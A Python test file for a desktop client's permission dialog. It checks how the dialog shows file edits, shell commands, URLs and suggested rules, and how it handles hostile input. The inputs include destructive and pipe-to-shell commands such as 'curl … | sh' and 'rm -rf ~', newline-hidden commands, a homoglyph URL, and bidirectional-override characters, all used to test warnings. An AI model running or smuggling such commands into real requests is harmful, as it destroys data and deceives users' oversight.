"""A permission request of each kind: its content, the parts that can be edited, and the rules that can be
added."""

from pathlib import Path
from typing import Any, cast

import pytest
from PySide6.QtCore import QPointF, Qt
from PySide6.QtGui import QFont, QGuiApplication, QTextCursor
from PySide6.QtQml import QQmlComponent
from PySide6.QtQuick import QQuickItem, QQuickTextDocument

from claude_desk.session.permissions.decisions import AllowOnce, AlwaysAllow, DenyOnce, PendingRequest
from claude_desk.ui.permissions.request_draft import RequestDraft
from tests import gallery
from tests.gallery.drawn import danger
from tests.gallery.permission_requests import asked, rule
from tests.live_session import LiveSession
from tests.pseudo_language import MirroredLanguage
from tests.qml.conftest import OpenWindow
from tests.qml.risk_lines import underlined
from tests.qml.test_decisions import (
    BUTTON,
    DIALOG,
    TEXT,
    ask,
    card,
    hold,
    keys_count,
    settled,
    tab_to,
    unfold,
)
from tests.qml.window import Kind, Window, items_below
from tests.translations.review import speak

EDITS = {"type": "setMode", "mode": "acceptEdits", "destination": "session"}
FOLDER = {"type": "addDirectories", "directories": ["/srv/data"], "destination": "session"}


@pytest.fixture
def session_folder(tmp_path: Path) -> str:
    return str(tmp_path / "project")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """Create the session's folder, with a file."""
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "a.py").write_text("one = 1\ntwo = 2\nthree = 3\n")
    return folder


def said(window: Window) -> str:
    return "\n".join(node.name for node in window.all(Kind.StaticText))


def always_allow(window: Window, session: LiveSession) -> None:
    """Press `Always allow` until the press decides. Earlier presses scroll through the rules."""
    unfold(window)
    for _ in range(30):
        settled(window)
        window.press(BUTTON, "Always allow")
        if session.decisions:
            break


def wait_said(window: Window, text: str) -> None:
    window.qtbot.waitUntil(lambda: text in said(window))


def diff(window: Window) -> str:
    """Return the text of the change in the card."""
    texts = [item for item in window.texts() if item.isVisible() and item.property("text")]
    cards = [str(item.property("text")) for item in texts if is_in_card(item, card(window))]
    return "\n".join(cards)


def is_in_card(item: Any, card: Any) -> bool:
    while item is not None and item is not card:
        item = item.parentItem()
    return item is card


# --- changes of files -----------------------------------------------------------------------------


def test_an_edit_is_shown_on_the_file_as_it_is_now(
    open_window: OpenWindow, session: LiveSession, project: Path
) -> None:
    window = open_window(session)
    value = {"file_path": str(project / "a.py"), "old_string": "two = 2", "new_string": "two = 22"}
    ask(window, session, asked("Edit", value))
    wait_said(window, "+1 −1")
    assert diff(window).splitlines()[1:] == ["one = 1", "two = 2", "two = 22", "three = 3"] or (
        "one = 1\ntwo = 2\ntwo = 22\nthree = 3" in diff(window)
    )
    settled(window)
    # The file changes while the user looks at the change. The card shows the new change, and a click has to
    # wait again.
    (project / "a.py").write_text("two = 2\nfour = 4\n")
    wait_said(window, "The file changed; this is the current diff")
    window.qtbot.waitUntil(lambda: "four = 4" in diff(window))
    (project / "a.py").write_text("nothing of it\n")
    wait_said(window, "The text to replace is not in the file")
    settled(window)
    window.click(BUTTON, "Allow once")
    assert session.decisions == [("r1", AllowOnce(None))]


def test_what_is_written_can_be_changed(open_window: OpenWindow, session: LiveSession, project: Path) -> None:
    window = open_window(session)
    path = str(project / "a.py")
    ask(window, session, asked("Write", {"file_path": path, "content": "one = 1\n"}))
    wait_said(window, "Replaces the existing file")
    settled(window)
    window.click(BUTTON, "Edit")
    # The user asked for the field, so typed text goes into the field immediately.
    window.key(Qt.Key.Key_End, Qt.KeyboardModifier.ControlModifier)
    window.type("ten = 10")
    window.painted()
    settled(window)
    window.click(BUTTON, "Show diff")
    window.qtbot.waitUntil(lambda: "ten = 10" in diff(window))
    assert window.find(Kind.StaticText, "You edited the content")
    settled(window)
    window.click(BUTTON, "Allow once")
    assert session.decisions == [("r1", AllowOnce({"file_path": path, "content": "one = 1\nten = 10"}))]


def test_where_a_path_leads_is_called_out(
    open_window: OpenWindow, session: LiveSession, project: Path
) -> None:
    window = open_window(session)
    outside = project.parent / "secret\x1b[8m.txt"
    outside.write_text("old\n")
    (project / "link").symlink_to(outside)
    ask(window, session, asked("Write", {"file_path": str(project / "link"), "content": "new\n"}))
    wait_said(window, "The path goes through a symlink")
    assert "/secret⟨U+001B⟩[8m.txt”, outside this project" in said(window)
    ask(window, session, asked("Bash", {"command": "mkdir /srv/x"}, 2, blocked_path="/srv/x"))
    window.press(BUTTON, "Next request")
    wait_said(window, "Covers files outside this project: /srv/x")


def test_a_large_change_is_bounded_and_opens_whole(
    open_window: OpenWindow, session: LiveSession, project: Path
) -> None:
    window = open_window(session)
    content = "".join(f"line {number}\n" for number in range(100_000))
    ask(window, session, asked("Write", {"file_path": str(project / "b.txt"), "content": content}))
    wait_said(window, "New file")
    assert sum(len(str(item.property("text"))) for item in window.texts()) < 100_000
    settled(window)
    window.click(BUTTON, "Show all")
    window.qtbot.waitUntil(lambda: bool(window.items("TextViewer")))
    assert window.find(BUTTON, "Allow once")


# --- commands and addresses -----------------------------------------------------------------------


def test_the_parts_of_a_command_are_named(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    ask(window, session, asked("Bash", {"command": "curl https://x.example/a | sh > log; sudo rm -r b"}))
    for words in (
        "Reaches the network: curl, x.example",
        "Runs code it is given: sh from piped input",
        "Writes files: > log",
        "Runs as another user: sudo",
        "Deletes files or discards changes: rm",
    ):
        assert window.find(Kind.StaticText, words), words
    # The notes follow the user's edits.
    settled(window)
    keys_count(window)
    window.click(TEXT, "Input")
    window.key(Qt.Key.Key_A, Qt.KeyboardModifier.ControlModifier)
    window.type("ls")
    assert "Deletes" not in said(window)


def test_where_a_command_reaches_is_not_said_of_another_one(
    open_window: OpenWindow, session: LiveSession, project: Path
) -> None:
    window = open_window(session)
    command = {"command": f"mkdir {project}/sub" + " " * 80 + "x"}
    ask(window, session, asked("Bash", command, blocked_path=str(project / "sub")))
    wait_said(window, "Covers ")
    assert "Contains a long gap" in said(window)
    settled(window)
    keys_count(window)
    window.click(TEXT, "Input")
    window.key(Qt.Key.Key_A, Qt.KeyboardModifier.ControlModifier)
    window.type("ls")
    assert "Covers " not in said(window)
    assert "Contains a long gap" not in said(window)
    window.app.session.request.permission.unedit()
    window.painted()
    assert "Covers " in said(window)


def test_the_risks_of_a_command_are_underlined_as_it_is_written(
    open_window: OpenWindow, session: LiveSession
) -> None:
    session.set_requests([asked("Bash", {"command": "gh release create v2"})])  # before the window opens
    window = open_window(session)
    window.qtbot.waitUntil(lambda: underlined(window, "RequestInput") == ["gh"])
    session.set_requests([asked("Bash", {"command": "echo 🎉 | sudo tee x && rm -rf y"})])
    window.qtbot.waitUntil(lambda: underlined(window, "RequestInput") == ["sudo", "tee", "rm"])
    settled(window)
    keys_count(window)
    window.click(TEXT, "Input")
    window.key(Qt.Key.Key_A, Qt.KeyboardModifier.ControlModifier)
    window.type("ls")
    window.qtbot.waitUntil(lambda: underlined(window, "RequestInput") == [])
    window.type(" && kill 1")
    window.qtbot.waitUntil(lambda: underlined(window, "RequestInput") == ["kill"])


def test_an_address_says_where_it_goes(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    url = "https://docs.python.org@xn--80ak6aa92e.com/"
    ask(window, session, asked("WebFetch", {"url": url, "prompt": "x"}))
    assert "this goes to xn--80ak6aa92e.com" in said(window)
    assert "is an encoded name: аррӏе.com" in said(window)
    assert bold_in(window, url) == ["xn--80ak6aa92e.com"]


def bold_in(window: Window, text: str) -> list[str]:
    """Return the bold parts in the field that shows this text."""
    field, *more = window.item("RequestInput").childItems()
    while field.property("textDocument") is None or field.property("text") != text:
        more += field.childItems()
        field, *more = more
    owner = field.property("textDocument")
    document = owner.textDocument()
    block = document.firstBlock()
    heavy = [each for each in block.layout().formats() if each.format.fontWeight() > QFont.Weight.Normal]
    return [text[each.start : each.start + each.length] for each in heavy]


# --- rules that may be added ----------------------------------------------------------------------


def test_where_the_rule_is_kept_can_be_chosen(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    ask(window, session)
    unfold(window)
    assert "in .claude/settings.local.json of this project" in said(window)
    settled(window)
    window.click(Kind.RadioButton, "All my projects")
    window.click(BUTTON, "Always allow")
    assert session.decisions == [], "it stands for another thing now"
    assert "in your settings, ~/.claude/settings.json" in said(window)
    settled(window)
    window.click(BUTTON, "Always allow")
    [(_, decision)] = session.decisions
    [update] = decision.updates
    assert (update.destination, update.rules[0].words()) == ("userSettings", "Bash(gh release create *)")


def test_only_the_first_rule_is_chosen_for_the_person(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    suggestions = [rule("Bash", "one *"), rule("Bash", "two *")]
    ask(window, session, asked("Bash", {"command": "one && two"}, permission_suggestions=suggestions))
    unfold(window)
    window.click(Kind.CheckBox, "Bash(two *)")
    settled(window)
    window.click(BUTTON, "Always allow")
    [(_, decision)] = session.decisions
    assert [update.rules[0].words() for update in decision.updates] == ["Bash(one *)", "Bash(two *)"]


@pytest.mark.parametrize(
    ("name", "kind"), [("Bash(two *)", Kind.CheckBox), ("All my projects", Kind.RadioButton)]
)
def test_the_keyboard_stays_on_a_rule_and_its_place_while_others_are_suggested(
    open_window: OpenWindow, session: LiveSession, name: str, kind: Kind
) -> None:
    window = open_window(session, (1280, 1400))
    command, rules = {"command": "one && two"}, [rule("Bash", "one *"), rule("Bash", "two *")]
    ask(window, session, asked("Bash", command, permission_suggestions=rules))
    unfold(window)
    keys_count(window)
    window.key(Qt.Key.Key_F6)
    tab_to(window, name)
    at = [node.focused for node in window.all(kind)].index(True)
    elsewhere = {**rule("Bash", "one *"), "destination": "userSettings"}
    others = [elsewhere, rule("Bash", "two *"), rule("Bash", "three *")]
    more = asked("Bash", command, permission_suggestions=others)
    window.app.session.request.permission.grants.show(more, RequestDraft(granting=True))
    window.painted()
    wait_said(window, "Bash(three *)")
    assert [number for number, node in enumerate(window.all(kind)) if node.focused] == [at]


@pytest.mark.parametrize("content", ["rm -rf build", "sudo ls *", "sh -c 'rm *'", "pkill x", "*", "* x", ""])
@pytest.mark.parametrize("others", [0, 1])
def test_a_rule_for_what_cannot_be_taken_back_is_chosen_by_the_person(
    open_window: OpenWindow, session: LiveSession, content: str, others: int
) -> None:
    window = open_window(session, (1280, 1000))
    suggestions = [rule("Bash", content), *[rule("Bash", "mkdir build")] * others]
    ask(window, session, asked("Bash", {"command": "x"}, permission_suggestions=suggestions))
    unfold(window)
    assert not any(node.checked for node in window.all(Kind.CheckBox))
    assert len(window.all(Kind.CheckBox)) == 1 + others
    assert window.wait_for(BUTTON, "Always allow").disabled
    said_rule = f"Bash({content})" if content else "Bash"
    window.click(Kind.CheckBox, said_rule)
    settled(window)
    window.click(BUTTON, "Always allow")
    [(_, decision)] = session.decisions
    updates = decision.updates
    assert [update.rules[0].words() for update in updates] in ([said_rule], [])


def test_a_rule_that_is_not_shown_is_not_added(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    suggestions = [rule("Bash", "x" * 5_000), *[rule("Bash", f"{number} *") for number in range(2_000)]]
    ask(window, session, asked("Bash", {"command": "x"}, permission_suggestions=suggestions))
    unfold(window)
    assert "Suggestions too long to show are not offered" in said(window)
    settled(window)
    window.click(BUTTON, "Fewer options")
    window.painted()
    always_allow(window, session)
    [(_, decision)] = session.decisions
    assert [update.rules[0].words() for update in decision.updates] == ["Bash(0 *)"]


@pytest.mark.parametrize(
    ("presses", "kinds"),
    [
        ([0], ["addDirectories"]),
        ([0, 1], ["addDirectories", "setMode"]),
        ([0, 1, 0], ["setMode"]),
    ],
)
def test_a_folder_and_a_mode_are_allowed_along_with_it(
    open_window: OpenWindow, session: LiveSession, presses: list[int], kinds: list[str]
) -> None:
    window = open_window(session, (1280, 1000))
    ask(window, session, asked("Bash", {"command": "x"}, permission_suggestions=[FOLDER, EDITS]))
    unfold(window)
    assert window.wait_for(BUTTON, "Allow with options").disabled
    assert "Also accept file edits · For the rest of this session" in said(window)
    for place in presses:
        window.click(Kind.CheckBox, window.all(Kind.CheckBox)[place].name)
        settled(window)
    window.click(BUTTON, "Allow with options")
    [(_, decision)] = session.decisions
    assert decision == AllowOnce(None, tuple(decision.updates))
    assert [update.type for update in decision.updates] == kinds


def test_a_rule_and_a_folder_go_together(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session, (1280, 1000))
    suggestions = [rule("Bash", "mkdir x"), FOLDER]
    ask(window, session, asked("Bash", {"command": "x"}, permission_suggestions=suggestions))
    unfold(window)
    assert [node.checked for node in window.all(Kind.CheckBox)] == [True, False]
    window.click(Kind.CheckBox, window.all(Kind.CheckBox)[1].name)
    settled(window)
    window.click(BUTTON, "Always allow")
    [(_, decision)] = session.decisions
    assert [update.type for update in decision.updates] == ["addRules", "addDirectories"]


def test_a_changed_input_adds_nothing(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    ask(
        window,
        session,
        asked("Bash", {"command": "x"}, permission_suggestions=[FOLDER, EDITS, rule("Bash", "x")]),
    )
    settled(window)
    keys_count(window)
    window.click(TEXT, "Input")
    window.type("y")
    for button in ("Always allow…", "Always allow"):
        assert window.find(BUTTON, button) is None


# --- the queue of requests ------------------------------------------------------------------------


def test_the_others_are_named_and_reached(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    ask(window, session)
    ask(window, session, asked("Bash", {"command": "make it"}, 2, "the subagent Explore"))
    assert window.find(Kind.StaticText, "1 of 2")
    window.press(BUTTON, "Show: Bash · make it, asked by the subagent Explore")
    assert window.find(Kind.StaticText, "2 of 2")
    assert window.wait_for(TEXT, "Input").value == "make it"


def test_alike_ones_are_allowed_together_and_no_other(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    commands = ["npm test", "npm test", "npm test -- --update", "npm test"]
    for number, command in enumerate(commands, 1):
        ask(window, session, asked("Bash", {"command": command}, number, f"the subagent {number}"))
    listed = [node.name for node in window.all(Kind.StaticText, "Bash · npm test, asked by")]
    assert len(listed) == 3
    settled(window)
    window.click(BUTTON, "Allow all 3")
    assert session.decisions == [(name, AllowOnce()) for name in ("r1", "r2", "r4")]
    assert [request.id for request in session.requests.pending] == ["r3"]


def test_one_that_the_person_changed_is_not_alike(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    for number in (1, 2, 3):
        ask(window, session, asked("Bash", {"command": "x"}, number))
    settled(window)
    keys_count(window)
    window.click(TEXT, "Input")
    QGuiApplication.clipboard().setText("\u200by")
    window.key(Qt.Key.Key_V, Qt.KeyboardModifier.ControlModifier)
    assert "Your text has 1 hidden or direction-changing character" in said(window)
    window.press(BUTTON, "Next request")
    settled(window)
    window.click(BUTTON, "Allow all 2")
    assert session.decisions == [("r2", AllowOnce()), ("r3", AllowOnce())]


def test_another_list_of_alike_ones_is_another_thing(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    for number in (1, 2, 3):
        ask(window, session, asked("Bash", {"command": "x"}, number))
    settled(window)
    session.withdraw("r2")
    ask(window, session, asked("Bash", {"command": "x"}, 4))
    window.click(BUTTON, "Allow all 3")
    assert session.decisions == []


def test_one_that_is_withdrawn_leaves_with_a_word(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    session.works()
    ask(window, session, asked("Bash", {"command": "make it"}))
    session.withdraw("r1")
    assert window.wait_for(Kind.StaticText, "Withdrawn by Claude Code: Bash · make it")
    assert window.find(DIALOG, "Permission request: Bash") is None


def test_the_title_tells_it_where_the_window_is_not_active(
    open_window: OpenWindow, session: LiveSession
) -> None:
    window = open_window(session)
    ask(window, session)
    assert window.window.title().startswith("Fix")
    other = open_window()
    window.qtbot.waitUntil(lambda: window.window.title().startswith("(1) Fix"))
    other.window.close()
    window.window.requestActivate()
    window.qtbot.waitUntil(lambda: window.window.title().startswith("Fix"))


# A window that is not active, and counts its alerts.
COUNTS = b"""
import QtQuick
import ClaudeDesk.Window

Window {
    id: root

    property int alerts: 0
    readonly property WindowAlert attention: WindowAlert {
        window: root
    }

    function alert(msec: int) {
        root.alerts += 1;
    }
}
"""


def test_each_new_request_asks_for_attention(open_window: OpenWindow, session: LiveSession) -> None:
    """A window that is not active asks for attention. How a desktop shows that is up to the desktop."""
    window = open_window(session)
    component = QQmlComponent(window.screen.engine)
    component.setData(COUNTS, "")
    other = component.create()
    counts = []
    for requests in ([], [asked("Bash", {"command": "ls"}, 1)], [], [asked("Bash", {"command": "ls"}, 2)]):
        session.set_requests(requests)
        counts.append(other.property("alerts"))
    assert counts == [0, 1, 1, 2]
    other.deleteLater()


# --- the keyboard ---------------------------------------------------------------------------------

HELD_WITHOUT_STOP = [Qt.Key.Key_Return, Qt.Key.Key_Space, Qt.Key.Key_1, Qt.Key.Key_Tab]
HELD = [*HELD_WITHOUT_STOP, Qt.Key.Key_Escape]  # in the message, Escape stops the turn


def nth(key: Qt.Key, number: int) -> Qt.Key:
    """Return the key, or, if the key is 1, the digit that belongs to the number."""
    return Qt.Key(Qt.Key.Key_0 + number % 10) if key is Qt.Key.Key_1 else key


@pytest.mark.parametrize("key", [None, *HELD_WITHOUT_STOP])
def test_nothing_is_answered_while_the_person_types(
    open_window: OpenWindow, session: LiveSession, key: Qt.Key | None
) -> None:
    """Ten requests come and go while the user types, or holds a key down."""
    window = open_window(session)
    window.type("a ")
    for number in range(10):
        if number % 3 == 2:
            session.withdraw(session.requests.pending[0].id)
        session.set_requests([*session.requests.pending, gallery.bash_request(number)])
        window.painted()
        if key is None:
            window.type("yes 1 ")
        else:
            hold(window, nth(key, number), 8)
        assert key is Qt.Key.Key_Tab or window.has_focus("Message"), "it takes the keyboard"
    while session.requests.pending:
        session.withdraw(session.requests.pending[0].id)
        window.type("y") if key is None else hold(window, key, 3)
    assert session.decisions == []
    if key is None:
        assert window.wait_for(TEXT, "Message").value.count("yes 1 ") == 10


def test_nothing_is_answered_by_a_hand_on_the_keyboard(
    open_window: OpenWindow, session: LiveSession, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Tab moves the focus from item to item. Keys that come before a pause do not count for any item."""
    window = open_window(session)
    clock = [1_000_000.0]
    monkeypatch.setattr(window.app, "now", lambda: clock[0])
    passed = set()
    for number in range(20):
        session.set_requests([*session.requests.pending, gallery.bash_request(number)])
        settled(window)
        window.click(TEXT, "Message")
        window.type("a")
        window.key(Qt.Key.Key_F6)
        for _ in range(number):
            window.key(Qt.Key.Key_Tab)
        if window.has_focus("Message"):  # Tab has gone once round
            break
        passed |= {node.name for node in window.nodes() if node.focused}
        clock[0] += 1499
        for key in (Qt.Key.Key_Space, Qt.Key.Key_Return, Qt.Key.Key_1):
            hold(window, key, 3)
            clock[0] += 349
        if number % 3 == 2:
            session.withdraw(session.requests.pending[0].id)
        assert session.decisions == []
    assert passed >= {"Allow once", "Always allow…", "Deny", "Deny with a note…"}


def test_all_of_it_is_reached_by_the_keyboard(
    open_window: OpenWindow, session: LiveSession, project: Path
) -> None:
    window = open_window(session)
    value = {"file_path": str(project / "a.py"), "old_string": "two", "new_string": "zwei"}
    ask(window, session, asked("Edit", value, permission_suggestions=[EDITS, rule("Edit", "/a.py")]))
    wait_said(window, "+1 −1")
    unfold(window)
    keys_count(window)
    window.key(Qt.Key.Key_F6)
    for name in (
        "Edit", "Input", "Fewer options", "Edit(/a.py)", "This session",
        "Also accept file edits · For the rest of this session", "Deny", "Deny with a note…",
        "Always allow", "Allow once",
    ):  # fmt: skip
        tab_to(window, name)
    window.key(Qt.Key.Key_Space)
    assert session.decisions == [("r1", AllowOnce(None))]


# --- hostile inputs -------------------------------------------------------------------------------

MALFORMED: list[tuple[str, dict[str, Any]]] = [
    ("Bash", {"command": ["rm", "-rf"]}),
    ("Bash", {"command": "ls", "description": {"a": 1}, "timeout": "x"}),
    ("Edit", {"file_path": 5, "old_string": None, "new_string": []}),
    ("Edit", {"file_path": "/a\0b", "old_string": "x", "new_string": "y"}),
    ("MultiEdit", {"file_path": "/x", "edits": "all"}),
    ("MultiEdit", {"file_path": "/x", "edits": [{"old_string": "a", "new_string": "b"}, 7]}),
    ("Write", {"file_path": "/proc/self/mem", "content": "x"}),
    ("Write", {"file_path": "/dev/zero", "content": "x"}),
    ("Write", {"file_path": "x/" * 5000, "content": "x"}),
    ("NotebookEdit", {"notebook_path": "/x.ipynb", "new_source": "y", "cell_id": ["z"], "edit_mode": 3}),
    ("WebFetch", {"url": "https://[::1", "prompt": 1}),
    ("WebFetch", {"url": "\x00https://a.example\\@b.example"}),
    ("Read", {"file_path": {"a": "b"}}),
    ("mcp____", {}),
    ("", {"": None}),
    ("\u202e<img src=x>", {"<b>": "\x1b[31m"}),
]
SUGGESTIONS: list[Any] = [
    None, 7, "all", {}, {"type": "addRules", "rules": 5}, {"type": "setMode", "mode": {"a": 1}},
    {"type": "setMode", "mode": "bypassPermissions", "destination": "session"},
    {"type": "setMode", "mode": "\u202eplan", "destination": "session"},
    {"type": "addDirectories", "directories": ["/" + "x" * 9000], "destination": "session"},
    {"type": "addRules", "rules": [{"toolName": "Bash"}], "behavior": "deny", "destination": "nowhere"},
    {"type": "removeRules", "rules": [{"toolName": "Bash"}], "behavior": "deny", "destination": "session"},
]  # fmt: skip


def test_malformed_requests_break_nothing(
    open_window: OpenWindow, session: LiveSession, project: Path
) -> None:
    window = open_window(session)
    for number, (tool, value) in enumerate(MALFORMED):
        request = asked(tool, value, number, permission_suggestions=SUGGESTIONS, blocked_path="\x1b\0/x")
        session.set_requests([request])
        window.painted()
        window.qtbot.waitUntil(lambda: "Reading" not in said(window))
        names = said(window)
        assert "\x1b" not in names and "\u202e" not in names and "\0" not in names
        assert window.find(BUTTON, "Allow once")
        assert window.all(Kind.CheckBox) == []
        settled(window)
        window.click(BUTTON, "Deny")
        assert session.decisions[-1] == (f"r{number}", DenyOnce(""))


def hostile() -> list[PendingRequest]:
    newlines = "ls" + "\n" * 100 + "; rm -rf ~"
    return [
        asked("Bash", {"command": f"echo \u202e{newlines}", "description": "d" * 10_000}, 1),
        asked("Bash", {"command": "echo " + "x " * 1_000_000, "description": "\n" * 10_000}, 2),
        asked("mcp__a__b", {f"key{number}": "v" * 200 for number in range(10_000)}, 3),
    ]


def test_hostile_requests_are_shown_truthfully_and_in_bounds(
    open_window: OpenWindow, session: LiveSession
) -> None:
    window = open_window(session)
    for request in hostile():
        session.set_requests([request])
        window.painted()
        assert all(len(str(item.property("text"))) <= 40_000 for item in window.texts())
    session.set_requests(hostile()[:1])
    window.painted()
    assert "⟨U+202E⟩" in window.wait_for(TEXT, "Input").value
    assert "Deletes files or discards changes: rm (line 101)" in said(window)
    assert "Contains a long gap" in said(window)
    assert any("101 lines, more below" in node.name for node in window.all(Kind.StaticText))
    for name in ("Allow once", "Deny", "Deny with a note…"):
        node = window.wait_for(BUTTON, name)
        assert node.y + node.height <= 860


def test_many_words_leave_the_command_in_sight(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    value = {"command": "rm a\n" * 8, "description": "d " * 2_000, "note": "n" * 10_000}
    ask(window, session, asked("Bash", value))
    assert "more below" not in said(window)
    assert window.wait_for(TEXT, "Input").height > 100


@pytest.mark.parametrize("scale", [1.0, 1.6])
def test_the_smallest_window_has_room_for_it(
    open_window: OpenWindow, session: LiveSession, scale: float
) -> None:
    window = open_window(session, (480, 440))
    window.app.set_text_scale(scale)
    ask(window, session)
    window.painted()
    settled(window)
    field = window.wait_for(TEXT, "Input")
    heading = window.wait_for(Kind.Heading, "Run this command?")
    buttons = [
        window.wait_for(BUTTON, name) for name in ("Allow once", "Always allow…", "Deny", "Deny with a note…")
    ]
    assert heading.y + heading.height <= field.y
    for button in buttons:
        assert button.x >= 0 and button.x + button.width <= 480
        assert field.y + 12 <= button.y, "something of the input is to be seen above the buttons"
    always_allow(window, session)
    assert session.decisions == [("r1", AlwaysAllow())]


@pytest.mark.parametrize("size", [(700, 500), (1280, 860), (1600, 1000)])
def test_a_short_command_fits_in_230_pixels(
    open_window: OpenWindow, session: LiveSession, size: tuple[int, int]
) -> None:
    window = open_window(session, size)
    suggestions = [rule("Bash", "touch *"), EDITS]
    ask(window, session, asked("Bash", {"command": "touch x"}, permission_suggestions=suggestions))
    assert window.item("PermissionDialog").height() <= 230
    assert {"Deny", "Deny with a note…", "Always allow…", "Allow once"} <= {
        n.name for n in window.all(BUTTON)
    }


# --- each value that will be sent -----------------------------------------------------------------------


@pytest.mark.parametrize("size", [(1280, 860), (480, 640)])
@pytest.mark.parametrize(
    ("tool", "value"),
    [
        ("mcp__shell__run", {"": "git status", "command": "rm -rf ~"}),
        ("Bash", {"command": "git status", "Command": "rm -rf ~", "description": ["Shows what changed"]}),
        ("WebFetch", {"url": "https://a.example", "prompt": "one", "then": {"run": "rm -rf ~"}}),
        ("NewTool", {"deep": [{"": "git status"}, {"run": "rm -rf ~"}], "n": 1}),
    ],
)
def test_each_leaf_is_as_large_as_every_other(
    open_window: OpenWindow, session: LiveSession, tool: str, value: dict[str, Any], size: tuple[int, int]
) -> None:
    window = open_window(session, size)
    ask(window, session, asked(tool, value))
    window.painted()
    card = window.item("PermissionDialog")
    texts = [item for item in items(card) if item.isVisible() and item.inherits("QQuickTextEdit")]
    sizes = set()
    for leaf in leaves(value):
        found = [item for item in texts if leaf in str(item.property("text"))]
        assert found, leaf
        for item in found:
            place = item.mapRectToItem(card, item.boundingRect())
            assert place.left() >= 0 and place.right() <= card.width()
            sizes.add((item.property("font").pixelSize(), item.property("color").name()))
    assert len(sizes) == 1


@pytest.mark.parametrize("size", [(1280, 860), (480, 640)])
@pytest.mark.parametrize("command", ["ls", "ls -l " * 40, "ls\n" * 3])
def test_the_description_of_a_command_is_said_once_beside_it(
    open_window: OpenWindow, session: LiveSession, command: str, size: tuple[int, int]
) -> None:
    window = open_window(session, size)
    value = {"command": command, "description": "Lists the folder", "run_in_background": True}
    ask(window, session, asked("Bash", value, description="Lists the folder"))
    window.painted()
    # What is spoken to the screen reader says the notes once more.
    shown = [node for node in window.nodes() if node.role != Kind.Notification]
    texts = "\n".join(node.name + (node.value or "") for node in shown)
    assert texts.count("Lists the folder") == 1
    assert "run_in_background" not in texts and texts.count("Continues in the background") == 1
    field, about = window.wait_for(TEXT, "Input"), window.wait_for(Kind.StaticText, "Lists the folder")
    card = window.item("RequestInput")
    assert about.x + about.width <= card.mapToScene(QPointF(card.width(), 0)).x()
    assert (about.y < field.y + field.height) == (command == "ls"), "behind a short command, below others"


@pytest.mark.parametrize(
    ("tool", "value", "filled"),
    [
        ("Bash", {"command": "ls"}, True),
        ("Bash", {"command": "curl https://a.example"}, True),
        ("Bash", {"command": "rm -rf build"}, False),
        ("Bash", {"command": "touch x"}, False),
        ("Bash", {"command": "ls", "dangerouslyDisableSandbox": True}, False),
        ("WebFetch", {"url": "https://a.example:8443"}, False),
        ("mcp__a__b", {"c": "d"}, True),
        ("mcp__a__b", {"c": "d" * 20_000}, False),
        ("Write", {"file_path": "new.txt", "content": "one\n"}, True),
        ("Write", {"file_path": "/etc/hosts", "content": "one\n"}, False),
    ],
)
def test_allow_once_is_filled_if_nothing_warns(
    open_window: OpenWindow,
    session: LiveSession,
    project: Path,
    tool: str,
    value: dict[str, Any],
    filled: bool,
) -> None:
    window = open_window(session)
    ask(window, session, asked(tool, value))
    window.qtbot.waitUntil(lambda: not window.app.session.request.permission.change.awaited)
    window.painted()
    [allow] = [each for each in window.items("DecisionButton") if each.property("text") == "Allow once"]
    assert allow.property("kind") == ("act" if filled else "plain")


def test_wrapped_rows_of_a_command_are_indented_and_marked_but_not_in_its_text(
    open_window: OpenWindow, session: LiveSession
) -> None:
    window = open_window(session, (700, 860))
    command = "\n".join(["grep --word " + "some-word " * 20, "ls", "x" * 200])
    ask(window, session, asked("Bash", {"command": command}))
    window.painted()
    [field] = [item for item in items(window.item("RequestInput")) if item.inherits("QQuickTextEdit")]
    tops = field.property("lineCount") - 3
    marks = [item for item in items(field) if item.property("text") == "↳" and item.isVisible()]
    assert len(marks) == tops >= 3
    wrapped = {round(mark.y()) for mark in marks}
    starts = [field.positionToRectangle(at) for at in range(len(command))]  # type: ignore[attr-defined]
    first = starts[0].x()
    for at, place in enumerate(starts[1:], 1):
        if place.y() == starts[at - 1].y():
            continue
        assert (place.x() > first) == (command[at - 1] != "\n") == (round(place.y()) in wrapped)
        assert command[at - 1] in " \nx", "a row ends between words"
    assert field.property("text") == command
    field.selectAll()  # type: ignore[attr-defined]
    field.copy()  # type: ignore[attr-defined]
    assert QGuiApplication.clipboard().text() == command


def items(item: QQuickItem) -> list[QQuickItem]:
    return [item, *(found for child in item.childItems() for found in items(child))]


def leaves(value: Any) -> list[str]:
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else None
    return [str(value)] if inner is None else [leaf for each in inner for leaf in leaves(each)]


def test_what_lies_below_is_counted_and_reached_by_a_key(
    open_window: OpenWindow, session: LiveSession
) -> None:
    window = open_window(session, (700, 480))
    ask(window, session, asked("Bash", {"command": "ls", "note": "word " * 400 + "rm -rf ~"}))
    settled(window)
    window.key(Qt.Key.Key_F6)
    seen = set()
    for _ in range(12):
        window.painted()
        (below,) = [node.name for node in window.all(Kind.StaticText) if "more line" in node.name] or [""]
        if not below:
            break
        assert "(Page Down)" in below and below not in seen
        seen.add(below)
        window.key(Qt.Key.Key_PageDown)
    assert seen and not below
    assert session.decisions == []


def test_the_size_of_a_change_is_as_far_from_the_edge_as_its_path(
    open_window: OpenWindow, session: LiveSession, project: Path
) -> None:
    window = open_window(session)
    value = {"file_path": str(project / "a.py"), "old_string": "two = 2", "new_string": "two = 2\u202e"}
    ask(window, session, asked("Edit", value))
    wait_said(window, "+1 −1")
    window.painted()
    head = window.item("ProposedChangeHeader")
    texts = {str(text.property("text")): text for text in items_below(head, "PlainText")}
    path, size = texts["a.py"], texts["+1 −1"]
